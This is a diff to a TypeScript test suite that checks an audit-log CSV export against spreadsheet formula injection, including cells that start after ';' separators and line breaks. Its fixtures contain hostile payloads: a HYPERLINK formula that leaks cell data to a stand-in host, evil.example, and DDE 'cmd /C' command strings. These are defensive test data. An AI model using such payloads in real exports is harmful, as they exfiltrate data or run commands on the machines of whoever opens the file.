@@ -7,7 +7,8 @@ import { userContext } from '../../../test/helpers/identities.ts';
 import type { TenantContext } from '../shared/context.ts';
 import { fromRow } from './audit-log.ts';
 import { chainHash } from './chain.ts';
-import { AUDIT_CSV_COLUMNS, csvField } from './csv.ts';
+import { AUDIT_CSV_COLUMNS, auditCsvRecord, csvField } from './csv.ts';
+import { auditEvent } from './sinks/testing.ts';
 import type { AuditEvent } from './event.ts';
 
 /** What makes a spreadsheet run a cell (OWASP CSV injection), and the ' that marks an added prefix. */
@@ -16,6 +17,8 @@ const payload = (c: string) => `${c}HYPERLINK("https://evil.example/?d="&A1,"ope
 const col = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => AUDIT_CSV_COLUMNS.indexOf(name);
 /** Text columns: every column but seq and secret_version (numbers) and context (JSON, so it starts with "{"). */
 const TEXT_COLUMNS = AUDIT_CSV_COLUMNS.filter((c) => !['seq', 'secret_version', 'context'].includes(c));
+/** Text that starts a formula after a separator a ';' spreadsheet splits on. */
+const SEPARATED = ["ua;=cmd|' /C notepad'!A0;", 'x;@SUM(1+1)', 'line\n=1+1', 'crlf\r\n+1', 'q;"=2+2"'];
 
 test('a field starting with = + - @ TAB CR or \' gets a leading \' and quotes; only the first character counts', () => {
   for (const c of DANGEROUS) {
@@ -30,6 +33,42 @@ test('numbers are written as they are, negative ones too: a number cannot carry 
   assert.equal(csvField('-1'), `"'-1"`, 'the same characters as text are neutralized');
 });
 
+/**
+ * Where a spreadsheet may start a cell inside a CSV line: at a field's start, and where its list
+ * separator is ";" (Excel in most of continental Europe) after every ";" and line break, quotes or not.
+ */
+const cellStarts = (csv: string) => csv.split(/[;\r\n]/).slice(1);
+/** Undoes the rule: one ' off the start of a text field and off the start of every cell inside it. */
+const undo = (field: string) => field.replace(/(^|[;\r\n])'/g, '$1');
+
+test("a formula character right after a ';' or a line break inside a text field gets a ' too, and the rule undoes exactly", () => {
+  const cases: Array<[string, string]> = [
+    ["agent;=cmd|' /C calc'!A0;", "agent;'=cmd|' /C calc'!A0;"],
+    ['a;+1;-1;@SUM(A1);\t1', "a;'+1;'-1;'@SUM(A1);'\t1"],
+    ["it's;'quoted'", "it's;''quoted'"],
+    ['name\n=1+1', `"name\n'=1+1"`],
+    ['a\r\n-1', `"a\r\n'-1"`],
+    ['a;"=1+1"', `"a;'""=1+1"""`],
+    ['a;b; c', 'a;b; c'],
+  ];
+  for (const [stored, written] of cases) {
+    assert.equal(csvField(stored), written, JSON.stringify(stored));
+    const [[parsed]] = parseCsv(csvField(stored) + '\r\n') as [[string]];
+    assert.equal(undo(parsed), stored, `${JSON.stringify(stored)} comes back`);
+    assert.deepEqual(cellStarts(csvField(stored)).filter((c) => /^[=+\-@\t"]/.test(c)), [], `${JSON.stringify(stored)}: no cell a ';' spreadsheet would run`);
+  }
+});
+
+test("the context column escapes a dangerous ';' the JSON way and leaves an everyday one alone", () => {
+  const context = { userAgent: 'Mozilla/5.0 (X11; Linux x86_64)', justification: 'see;=HYPERLINK(1);"x' };
+  const record = auditCsvRecord(auditEvent(1, { context }));
+  const field = parseCsv(record)[0]![col('context')]!;
+  assert.ok(field.includes('(X11; Linux x86_64)'), field);
+  assert.ok(field.includes('see\\u003b=HYPERLINK(1);\\"x'), field);
+  assert.deepEqual(JSON.parse(field), context);
+  assert.deepEqual(cellStarts(record).filter((c) => /^[=+\-@\t"]/.test(c)), []);
+});
+
 describeEachDialect('audit CSV export: attacker-chosen text never becomes a spreadsheet formula', (dialect) => {
   let h: Harness;
   let tenantId: string;
@@ -41,6 +80,18 @@ describeEachDialect('audit CSV export: attacker-chosen text never becomes a spre
     auditor = await userContext(h, tenantId, 'csv-auditor');
     await h.services.grants.create(h.ctx, { principalType: 'user', principalId: auditor.id, role: 'auditor' });
     // Services validate most names; the export must be safe whatever reaches the table, so every text column is hostile here.
+    // And text that opens a cell mid-field where the list separator is ";": after a ";" or a line break.
+    await h.services.audit.record(SEPARATED.map((text) => ({
+      tenantId,
+      actor: { type: 'user', id: text },
+      action: 'csv.separated',
+      resource: { type: 'secret', id: text, name: text },
+      environment: text,
+      secretVersion: 1,
+      outcome: 'denied',
+      reason: text,
+      context: { userAgent: text, justification: `why${text}` },
+    })));
     await h.services.audit.record(DANGEROUS.map((c, i) => ({
       tenantId,
       actor: { type: `${c}user` as AuditEvent['actor']['type'], id: payload(c) },
@@ -81,6 +132,19 @@ describeEachDialect('audit CSV export: attacker-chosen text never becomes a spre
       assert.deepEqual([r[col('seq')], r[col('secret_version')]], [String(e.seq), String(i + 1)], 'numbers untouched');
       assert.ok(r[col('context')]!.startsWith('{'), 'the context column is JSON, which no spreadsheet runs');
       assert.deepEqual(JSON.parse(r[col('context')]!), e.context, 'context values as stored, no prefix inside the JSON');
+    }
+  });
+
+  test("text that a ';' spreadsheet would start a cell in (after a ';' or a line break) never begins a formula there, and comes back by the rule", async () => {
+    const csv = await collect(await h.services.auditQueries.export(auditor.ctx(), { action: 'csv.separated' }, 'csv'));
+    assert.deepEqual(cellStarts(csv).filter((c) => /^[=+\-@\t"]/.test(c)), [], 'no cell starting with a formula character anywhere in the file');
+    const records = parseCsv(csv).slice(1);
+    const stored = (await h.storage.db.selectFrom('audit_events').selectAll().where('action', '=', 'csv.separated').orderBy('seq').execute()).map(fromRow);
+    assert.equal(records.length, SEPARATED.length);
+    for (const [i, r] of records.entries()) {
+      const e = stored[i]!;
+      assert.deepEqual((['actor_id', 'resource_id', 'resource_name', 'environment', 'reason'] as const).map((n) => undo(r[col(n)]!)), Array(5).fill(SEPARATED[i]));
+      assert.deepEqual(JSON.parse(r[col('context')]!), e.context, 'the JSON context parses back to the stored values');
     }
   });
 
